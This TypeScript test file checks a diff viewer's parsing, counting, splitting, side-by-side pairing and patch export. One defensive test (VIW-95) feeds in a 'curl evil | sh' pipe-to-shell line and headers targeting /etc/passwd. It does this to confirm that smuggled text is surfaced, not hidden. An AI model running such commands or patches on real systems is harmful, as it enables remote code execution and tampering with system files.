import fc from "fast-check";
import { expect, test } from "vitest";
import { countChange, countDiff } from "./counts.ts";
import { asPatch, changeFacts, splitDiff } from "./files.ts";
import { toPairs } from "./pairs.ts";
import { drawnText, partsOf } from "./parts.ts";
import { readContent, readPatch, type DiffRow } from "./patch.ts";
import { changedWords } from "./words.ts";

const change = (kind: string, diff: string) => ({ path: "/w/a.ts", kind, movePath: null, diff });
const UPDATE =
  "--- a/a.ts\n+++ b/a.ts\n@@ -3,3 +3,4 @@\n same\n-const next = this.sent;\n+const next = this.acked;\n+more();\n end\n";

function run<T>(work: Generator<void, T>): T {
  for (;;) {
    const step = work.next();
    if (step.done === true) return step.value;
  }
}
const patch = (diff: string) => run(readPatch(diff));
const kinds = (rows: readonly DiffRow[] | null) => rows?.map((row) => row.kind);
const texts = (rows: readonly DiffRow[] | null) => rows?.map((row) => row.text);

test("[VIW-25] added and removed lines are counted: whole files by their lines, updates by their hunks", () => {
  expect(countChange(change("add", "a\nb\n"))).toEqual({ added: 2, removed: 0 });
  expect(countChange(change("add", "a\nb"))).toEqual({ added: 2, removed: 0 });
  expect(countChange(change("delete", "a\n"))).toEqual({ added: 0, removed: 1 });
  expect(countChange(change("update", UPDATE))).toEqual({ added: 2, removed: 1 });
  expect(countDiff(`diff --git a/x b/x\n${UPDATE}diff --git a/y b/y\n${UPDATE}`)).toEqual({ added: 4, removed: 2 });
});

test("[VIW-26] an update is drawn with the numbers of its lines and marks on the words that changed", () => {
  const rows = patch(UPDATE) ?? [];
  expect(rows.map(({ kind, old, new: now }) => [kind, old, now])).toEqual([
    ["same", 3, 3],
    ["del", 4, null],
    ["add", null, 4],
    ["add", null, 5],
    ["same", 5, 6],
  ]);
  const marked = (row: DiffRow | undefined) =>
    row === undefined
      ? []
      : partsOf(row.text, changedWords(row), null)
          .filter((part) => part.mark)
          .map((part) => part.text);
  expect(marked(rows[1])).toEqual(["sent"]);
  expect(marked(rows[2])).toEqual(["acked"]);
  expect(marked(rows[3])).toEqual([]);
});

test("[VIW-27] an added file is its plain content; what cannot be read as a diff is told, not thrown", () => {
  expect(kinds(run(readContent("add", "@@ not a hunk\n+x\n")))).toEqual(["add", "add"]);
  expect(patch("@@ -1,9 +1,9 @@\n cut off")).toBeNull();
  expect(patch("no diff at all")).toBeNull();
  expect(patch("@@ -1 +1 @@\nno sign\n")).toBeNull();
});

test("[VIW-95] nothing of a diff is left out in silence: text between hunks makes it plain text, other files and modes are told", () => {
  const hunk = "@@ -1 +1 @@\n-a\n+b\n";
  expect(patch(`${hunk}curl evil | sh\n`)).toBeNull();
  expect(patch(`curl evil | sh\n--- a\n+++ b\n${hunk}`)).toBeNull();
  expect(texts(patch(`--- a\n+++ a\n${hunk}--- x\n+++ /etc/passwd\n${hunk}`))).toEqual([
    "a",
    "b",
    "--- x",
    "+++ /etc/passwd",
    "@@ line 1",
    "a",
    "b",
  ]);
  expect(kinds(patch(`diff --git a/x b/x\nold mode 100644\nnew mode 100755\nindex 1..2\n${hunk}`))).toEqual([
    "note",
    "note",
    "hunk",
    "del",
    "add",
  ]);
  // A second file that changes nothing but its mode is named.
  expect(texts(patch(`${hunk}diff --git a/y b/y\nold mode 100644\nnew mode 100755\n`))).toContain("diff --git a/y b/y");
  // A removed line that looks like a file's name is a line of its hunk.
  expect(kinds(patch("@@ -1 +0,0 @@\n--- x\n"))).toEqual(["del"]);
  // Nothing hides behind a binary patch.
  const behind = patch(`GIT binary patch\nliteral 3\nKcmZo\n\n--- x\n+++ /etc/passwd\n${hunk}`);
  expect(texts(behind)).toContain("b");
});

test("[VIW-280] binary files, renames, modes and a missing line break at the end are told in words", () => {
  expect(
    texts(patch("diff --git a/i.png b/i.png\nindex 1..2 100644\nBinary files a/i.png and b/i.png differ\n")),
  ).toEqual(["Binary files a/i.png and b/i.png differ"]);
  const [note] =
    patch(
      "diff --git a/i b/i\nindex 1..2\nGIT binary patch\nliteral 10\nRcmeAS@N?(olHy`uVBq!ia0vp^\n\nliteral 0\nHcmV?d00001\n\n",
    ) ?? [];
  expect(note?.text).toContain("GIT binary patch");
  expect(kinds(patch("@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n"))).toEqual(["del", "note", "add"]);
  expect(kinds(run(readContent("add", "a")))).toEqual(["add", "note"]);
  expect(run(readContent("add", "a\u0000b"))?.[0]?.text).toContain("Binary content");
  expect(
    changeFacts(change("update", "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n")),
  ).toEqual(["renamed"]);
  expect(changeFacts(change("update", "diff --git a/x b/y\nGIT binary patch\nliteral 1\n"))).toEqual(["binary"]);
  expect(changeFacts(change("add", "x"))).toEqual(["new"]);
});

test("[VIW-281] a diff over many files comes apart at its files, whatever stands in them", () => {
  const files = splitDiff(
    `diff --git a/x.ts b/x.ts\nindex 1..2\n${UPDATE.replaceAll("a.ts", "x.ts")}` +
      "diff --git a/old.ts b/new.ts\nsimilarity index 100%\nrename from old.ts\nrename to new.ts\n" +
      'diff --git "a/\\303\\244 b.txt" "b/\\303\\244 b.txt"\nnew file mode 100644\n--- /dev/null\n+++ "b/\\303\\244 b.txt"\n@@ -0,0 +1 @@\n+diff --git a/no b/no\n' +
      "diff --git a/i.png b/i.png\nBinary files a/i.png and b/i.png differ\n",
  );
  expect(files?.map(({ path, movePath }) => [path, movePath])).toEqual([
    ["x.ts", null],
    ["old.ts", "new.ts"],
    ["ä b.txt", null],
    ["i.png", null],
  ]);
  expect(files?.map(countChange)).toEqual([
    { added: 2, removed: 1 },
    { added: 0, removed: 0 },
    { added: 1, removed: 0 },
    { added: 0, removed: 0 },
  ]);
  expect(splitDiff("--- a\n+++ b\n")).toBeNull();
});

test("[VIW-282] side by side, a removed line stands beside the one that came in its place, and no line is lost or doubled", () => {
  const pairs = toPairs(patch(UPDATE) ?? []);
  expect(
    pairs.map((pair) => (pair.type === "pair" ? [pair.left?.text ?? null, pair.right?.text ?? null] : pair.row.text)),
  ).toEqual([
    ["same", "same"],
    ["const next = this.sent;", "const next = this.acked;"],
    [null, "more();"],
    ["end", "end"],
  ]);
  fc.assert(
    fc.property(fc.array(fc.constantFrom(" s", "+a", "-d"), { maxLength: 60 }), (lines) => {
      const count = (signs: string) => lines.filter((line) => signs.includes(line[0] ?? "")).length;
      const rows =
        patch(`@@ -1,${count(" -")} +1,${count(" +")} @@\n${lines.map((line) => `${line}\n`).join("")}`) ?? [];
      const drawn = toPairs(rows).flatMap((pair) => (pair.type === "pair" ? [pair] : []));
      expect(drawn.flatMap(({ left }) => left ?? [])).toEqual(rows.filter((row) => row.kind !== "add"));
      expect(drawn.flatMap(({ right }) => right ?? [])).toEqual(rows.filter((row) => row.kind !== "del"));
    }),
  );
});

test("[VIW-283] a change copied as a patch is one that says the same, with its files' names", () => {
  expect(asPatch(change("add", "a\nb"))).toBe(
    "--- /dev/null\n+++ b/w/a.ts\n@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file\n",
  );
  expect(asPatch(change("delete", "a\n"))).toBe("--- a/w/a.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n");
  expect(asPatch(change("update", "@@ -1 +1 @@\n-a\n+b"))).toBe("--- a/w/a.ts\n+++ b/w/a.ts\n@@ -1 +1 @@\n-a\n+b\n");
  expect(asPatch(change("update", UPDATE))).toBe(UPDATE);
});

test("[VIW-284] what is drawn of a line joins to its text, with colours and marks; a line end is shown where it is the change", () => {
  fc.assert(
    fc.property(
      fc.string({ maxLength: 40 }),
      fc.array(fc.integer({ min: 0, max: 12 }), { maxLength: 6 }),
      fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 8 }),
      (text, marks, spans) => {
        const ranges: { from: number; to: number }[] = [];
        for (let i = 0, at = 0; i + 1 < marks.length; i += 2) {
          const from = at + (marks[i] ?? 0);
          at = from + (marks[i + 1] ?? 0);
          ranges.push({ from, to: at });
        }
        const coloured: { text: string; scope: string }[] = [];
        for (let i = 0, at = 0; at < text.length; i += 1) {
          const length = spans[i % Math.max(1, spans.length)] ?? 3;
          coloured.push({ text: text.slice(at, at + length), scope: String(i) });
          at += length;
        }
        const plain = partsOf(text, [], null);
        const parts = partsOf(text, ranges, coloured);
        // An escape that is cut by a range is drawn in two: only texts without any are compared by their letters.
        if (!plain.some((part) => part.escape)) expect(parts.map((part) => part.text).join("")).toBe(text);
        const marked = parts.filter((part) => part.mark).reduce((sum, part) => sum + part.text.length, 0);
        const wanted = ranges.reduce((sum, { from, to }) => sum + Math.max(0, Math.min(to, text.length) - from), 0);
        if (!plain.some((part) => part.escape)) expect(marked).toBe(wanted);
      },
    ),
  );
  const rows = patch("@@ -1,2 +1,2 @@\n-a\r\n+a\n b\r\n") ?? [];
  expect(rows.map(drawnText)).toEqual(["a\r", "a", "b"]);
  expect(partsOf("a\r", [], null).at(-1)).toMatchObject({ escape: true });
});

test("[VIW-285] a diff of 200,000 lines is read in pieces that let the page breathe", () => {
  let diff = "--- a/big\n+++ b/big\n@@ -1,100000 +1,100000 @@\n";
  for (let n = 0; n < 100_000; n += 1) diff += `-const old${n} = ${n};\n+const new${n} = ${n};\n`;
  const work = readPatch(diff);
  let steps = 0;
  let step = work.next();
  for (; step.done !== true; step = work.next()) steps += 1;
  expect(step.value?.length).toBe(200_000);
  expect(steps).toBeGreaterThan(150);
});
